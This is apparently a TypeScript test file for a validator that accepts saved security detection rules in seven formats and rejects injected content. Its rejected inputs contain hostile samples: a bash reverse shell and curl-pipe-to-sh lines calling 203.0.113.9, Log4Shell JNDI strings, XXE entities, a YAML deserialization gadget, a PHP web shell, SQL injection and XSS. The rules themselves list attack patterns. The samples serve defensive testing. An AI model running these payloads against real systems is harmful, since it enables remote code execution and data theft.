/**
 * Detection rules saved whole (the `security-rules` family; blind benign set 7's secops/3, read) quote what attacks
 * send; every line must be in its format's grammar, and what runs in a rule format is refused.
 */
import { describe, expect, it } from 'vitest';
import { isDetectionRuleText, isRuleDocumentElementName, isRuleEditorPath, isRuleFileProxySave } from '../../src/model/detection-rules.js';

const SURICATA = 'alert http $EXTERNAL_NET any -> $HTTP_SERVERS $HTTP_PORTS (msg:"LOCAL Sensitive file requested"; flow:established,to_server; http.uri; content:"/etc/passwd"; nocase; pcre:"/\\/etc\\/passwd/i"; threshold:type limit, track by_src, count 1, seconds 60; classtype:web-application-attack; sid:9100001; rev:2;)\n# a comment\ndrop tcp any any -> $HOME_NET 80 (msg:"LOCAL SQLi"; content:"union|20|select"; http_uri;; sid:9100002; rev:1;)';
const WAZUH = '<group name="web,accesslog,">\n  <rule id="100210" level="10" frequency="8" timeframe="120">\n    <if_sid>31100</if_sid>\n    <url>/etc/passwd|/proc/self/environ|win.ini</url>\n    <field name="data.http.user_agent">&lt;script|sqlmap</field>\n    <description>Attempt to read system file: $(url)</description>\n    <mitre>\n      <id>T1190</id>\n    </mitre>\n  </rule>\n</group>\n';
const SIGMA = "title: SQL injection attempt\nid: 5a8e2a0c-3f1d-4c1b-9a43-8d3f8a1b2c3d\nstatus: test\ndescription: Detects sqli in web server logs\nlogsource:\n  category: webserver\ndetection:\n  selection:\n    cs-uri-query|contains:\n      - 'union select'\n      - 'sleep('\n      - '<script'\n  condition: selection\nfalsepositives:\n  - Unknown\nlevel: high";
const YARA = 'rule Webshell_PHP_x1 : php webshell\n{\n    meta:\n        description = "PHP backdoors"\n        score = 70\n    strings:\n        $s1 = "eval(base64_decode(" ascii\n        $s2 = "system($_GET" nocase ascii\n        $h = { 3C 3F 70 68 70 ?? }\n        $r = /passthru\\s*\\(/ nocase\n    condition:\n        uint16(0) == 0x3f3c and 2 of ($s*)\n}';
const CROWDSEC = "type: leaky\nname: local/http-sqli-probing\ndescription: \"SQLi probing\"\nfilter: \"evt.Meta.service == 'http' && evt.Parsed.request contains 'union select'\"\ngroupby: \"evt.Meta.source_ip\"\ncapacity: 5\nleakspeed: 10s\nblackhole: 5m\nlabels:\n  remediation: true";
const FAIL2BAN = '[Definition]\nfailregex = ^<HOST> -.*"(GET|POST) [^"]*(?:\\/etc\\/passwd|union select)[^"]*" (?:404|403)\n            ^<HOST> -.*"[^"]*" \\d+ "[^"]*(?:sqlmap|nikto)[^"]*"$\nignoreregex =\ndatepattern = {^LN-BEG}%%d/%%b/%%Y:%%H:%%M:%%S\n';
const MODSEC = 'SecRule REQUEST_URI|ARGS "@rx (?i)union\\s+select" \\\n    "id:100001,phase:2,deny,status:403,log,msg:\'SQLi\'"\nSecRuleRemoveById 942100';

describe('isDetectionRuleText', () => {
  it('takes rule documents of each format quoting attack strings', () => {
    for (const t of [SURICATA, WAZUH, SIGMA, YARA, CROWDSEC, FAIL2BAN, MODSEC]) expect(isDetectionRuleText(t), t).toBe(true);
  });

  it('refuses anything beside the rules, and what runs in a rule format', () => {
    for (const t of [
      `${SURICATA}\n' UNION SELECT username, password FROM users--`,
      "' UNION SELECT username, password FROM users--",
      '${jndi:ldap://203.0.113.9:1389/a}',
      WAZUH.replace('</url>', '</url></rule></group><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
      `<?xml version="1.0"?>\n<!DOCTYPE group [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n${WAZUH.replace('/etc/passwd|', '&xxe;|')}`,
      WAZUH.replace('/etc/passwd|', '&xxe;|'),
      WAZUH.replace('<if_sid>31100</if_sid>', '<if_sid>31100</if_sid><script>alert(1)</script>'),
      SIGMA.replace("      - '<script'", '      - !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://203.0.113.9/"]]]]'),
      SIGMA.replace('status: test', 'status: ${jndi:ldap://203.0.113.9/a}'),
      SIGMA.replace('level: high', 'command: curl http://203.0.113.9/x | sh'),
      `${FAIL2BAN}actionban = curl -s http://203.0.113.9/x.sh | sh\n`,
      MODSEC.replace("deny,status:403", 'exec:/tmp/x.sh'),
      `${YARA}\n<?php system($_GET['c']); ?>`,
      'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
      'alert(document.cookie)',
    ]) expect(isDetectionRuleText(t), t).toBe(false);
  });

  it('names a Wazuh rule element', () => {
    expect(isRuleDocumentElementName('/group/rule/url')).toBe(true);
    expect(isRuleDocumentElementName('/root/query')).toBe(false);
  });
});

describe('isRuleEditorPath', () => {
  it("takes a security tool's rule-editing routes", () => {
    for (const p of ['/snort/snort_rules.php', '/suricata/suricata_rules.php', '/api/detections/sigma/import', '/v1/hub/scenarios/local/http-bad-ua', '/api/ids/settings/set', '/api/waf/exclusions', '/rules/files/local_rules.xml', '/api/v3/intelligence/hunting_rulesets', '/connect/so/detection', '/api/yara/rules'])
      expect(isRuleEditorPath(p), p).toBe(true);
  });
  it('refuses ordinary routes, and words that only contain a rule word', () => {
    for (const p of ['/search', '/api/comments', '/videos/123', '/api/orders/idsync', '/rulers/metric', '/signup', '/scenarios-guide'.replace('scenarios', 'scenery'), '/'])
      expect(isRuleEditorPath(p), p).toBe(false);
  });
});

describe('isRuleFileProxySave', () => {
  const save = (o: Record<string, unknown> = {}): Buffer =>
    Buffer.from(JSON.stringify({ method: 'PUT', path: '/rules/files/local_rules.xml?overwrite=true', body: { body: WAZUH, origin: 'raw' }, id: '0dae39de', ...o }));
  it("takes the Wazuh dashboard's envelope of a rule, decoder or list file's save", () => {
    expect(isRuleFileProxySave('POST', '/api/request', 'application/json', save())).toBe(true);
    expect(isRuleFileProxySave('POST', '/api/request', 'application/json', save({ method: 'POST', path: '/decoders/files/local_decoder.xml' }))).toBe(true);
    expect(isRuleFileProxySave('POST', '/api/request', 'application/json', save({ body: { body: WAZUH } }))).toBe(true);
  });
  it('refuses another route, method, content type, forwarded path or field', () => {
    const no: [string, string, string, Buffer][] = [
      ['POST', '/api/requests', 'application/json', save()],
      ['POST', '/api/request/', 'application/json', save()],
      ['PUT', '/api/request', 'application/json', save()],
      ['POST', '/api/request', 'text/plain', save()],
      ['POST', '/api/request', 'application/x-www-form-urlencoded', save()],
      ['POST', '/api/request', 'application/json', save({ method: 'GET' })],
      ['POST', '/api/request', 'application/json', save({ path: '/manager/configuration' })],
      ['POST', '/api/request', 'application/json', save({ path: '/security/users' })],
      ['POST', '/api/request', 'application/json', save({ path: '/rules/files/../../etc/passwd' })],
      ['POST', '/api/request', 'application/json', save({ path: "/rules/files/x.xml?q=' or 1=1" })],
      ['POST', '/api/request', 'application/json', save({ id: "1' or '1'='1" })],
      ['POST', '/api/request', 'application/json', save({ q: 'x' })],
      ['POST', '/api/request', 'application/json', save({ body: { body: WAZUH, origin: 'raw', note: 'x' } })],
      ['POST', '/api/request', 'application/json', save({ body: { body: WAZUH, origin: '<script>' } })],
      ['POST', '/api/request', 'application/json', save({ body: WAZUH })],
      ['POST', '/api/request', 'application/json', Buffer.from('[1,2]')],
      ['POST', '/api/request', 'application/json', Buffer.from('{"method":')],
    ];
    for (const [method, path, type, body] of no) expect(isRuleFileProxySave(method, path, type, body), `${method} ${path} ${type} ${body.toString().slice(0, 120)}`).toBe(false);
  });
});
